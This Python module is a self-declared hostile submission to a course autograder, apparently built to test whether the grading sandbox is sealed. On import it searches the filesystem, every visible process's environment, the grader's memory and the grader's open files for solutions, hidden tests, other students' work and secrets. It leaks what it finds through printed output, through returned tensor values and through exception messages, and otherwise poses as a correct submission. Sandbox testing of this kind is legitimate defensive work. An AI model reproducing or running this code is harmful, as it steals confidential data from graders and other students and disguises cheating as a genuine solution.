"""Hostile P1 submission: it tries to read what it must never see, and to smuggle it out.

At import it looks for hidden tests, reference solutions and other students'
submissions: where a course checkout or a grader's scratch folders usually are,
by following every path on a visible command line, and by walking every folder
it can see. It reads the environment of every visible process, the grader's
memory (``/proc/<ppid>/mem``) and the files the grader holds open
(``/proc/<ppid>/fd/*``), looking for secrets.

Whatever it gets it sends back three ways: printed (the grader shows the end of
the output), inside the values ``q_sample`` returns (shown as "got" in the
feedback), and in the message of an exception raised by ``v_target``. When it
finds nothing it behaves like a correct submission: a sealed sandbox gives full
marks and no leak.
"""

import os
import re
import sys
import time

import torch

from .forward import predict_x0_from_eps, q_posterior, snr
from .forward import q_sample as _q_sample
from .forward import v_target as _v_target
from .schedules import (
    alpha_bar,
    cosine_beta_schedule,
    get_schedule,
    linear_beta_schedule,
    quadratic_beta_schedule,
)

# What a leak looks like: markers of solutions, hidden tests, other students and secrets.
INTERESTING = re.compile(rb"BEGIN SOLUTION|def test_|OTHER-STUDENT-[0-9a-f]+|DIFFGRADE_ADVERSARIAL_SECRET=[0-9a-f]+")
SKIP = ("/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/etc")
OWN = tuple(os.path.realpath(p) for p in {sys.prefix, sys.base_prefix, os.path.dirname(os.path.dirname(__file__))})
LOOT: list = []  # (where, what) pairs
LOOT_LIMIT = 1 << 16


def _keep(where: str, data: bytes) -> None:
    for m in INTERESTING.finditer(data):
        if sum(len(w) for _, w in LOOT) < LOOT_LIMIT:
            LOOT.append((where, data[max(0, m.start() - 40):m.end() + 40].decode(errors="replace")))


def _candidate_files(budget_s: float = 3.0) -> list:
    """Python files outside the sandbox's own folders, by walking from every likely root."""
    roots = ["/work", "/home", "/root", "/srv", "/opt", "/autograder", "/tmp", "/var", "/", os.getcwd()]
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        except OSError:
            continue
        roots += [a.decode(errors="replace") for a in argv if a.startswith(b"/")]
    deadline, files, seen = time.monotonic() + budget_s, [], set()
    stack = [(r, 0) for r in roots]
    while stack and time.monotonic() < deadline and len(files) < 5000:
        folder, depth = stack.pop()
        real = os.path.realpath(folder)
        if real in seen or real.startswith(SKIP + OWN):
            continue
        seen.add(real)
        try:
            entries = list(os.scandir(folder))
        except OSError:
            continue
        for e in entries:
            if e.is_dir(follow_symlinks=False) and depth < 8:
                stack.append((e.path, depth + 1))
            elif e.name.endswith(".py"):
                files.append(e.path)
    return files


def _read_files() -> None:
    for path in _candidate_files():
        try:
            with open(path, "rb") as f:
                _keep(path, f.read(1 << 16))
        except OSError:
            pass


def _read_processes() -> None:
    """Environments of all visible processes; memory and open files of the parent."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                _keep(f"/proc/{pid}/environ", f.read())
        except OSError:
            pass
    ppid = os.getppid()
    budget = 64 << 20
    try:
        with open(f"/proc/{ppid}/maps") as maps, open(f"/proc/{ppid}/mem", "rb", buffering=0) as mem:
            for line in maps:
                span, perms = line.split()[:2]
                start, end = (int(x, 16) for x in span.split("-"))
                if not perms.startswith("rw") or budget <= 0:
                    continue
                try:
                    mem.seek(start)
                    data = mem.read(min(end - start, budget))
                except (OSError, ValueError, OverflowError):
                    continue
                budget -= len(data)
                _keep(f"/proc/{ppid}/mem", data)
    except OSError:
        pass
    try:
        fds = os.listdir(f"/proc/{ppid}/fd")
    except OSError:
        fds = []
    for fd in fds:
        path = f"/proc/{ppid}/fd/{fd}"
        try:
            if not os.path.isfile(path):  # never read the grader's pipes: that would block
                continue
            with open(path, "rb") as f:
                _keep(path, f.read(1 << 20))
        except OSError:
            pass


def _loot_text() -> str:
    return "\n".join(f"{where}: {what}" for where, what in LOOT)


try:
    _read_files()
    _read_processes()
except Exception:
    pass
if LOOT:
    print("STOLEN", _loot_text()[:LOOT_LIMIT])


def stolen() -> str:
    """Everything found (a helper beside the P1 functions, for the test's own control)."""
    return _loot_text()


def q_sample(x0, t, alpha_bar, noise):
    """Correct, unless something was stolen: then its bytes come back as the values."""
    if LOOT:
        raw = _loot_text().encode()[:x0.numel()]
        out = torch.zeros(x0.numel(), dtype=x0.dtype)
        out[:len(raw)] = torch.tensor(list(raw), dtype=x0.dtype)
        return out.reshape(x0.shape).to(x0.device)
    return _q_sample(x0, t, alpha_bar, noise)


def v_target(x0, t, alpha_bar, noise):
    """Correct, unless something was stolen: then it is the message of an exception."""
    if LOOT:
        raise RuntimeError(_loot_text()[:3000])
    return _v_target(x0, t, alpha_bar, noise)


__all__ = ["linear_beta_schedule", "quadratic_beta_schedule", "cosine_beta_schedule", "get_schedule",
           "alpha_bar", "q_sample", "q_posterior", "predict_x0_from_eps", "snr", "v_target", "stolen"]
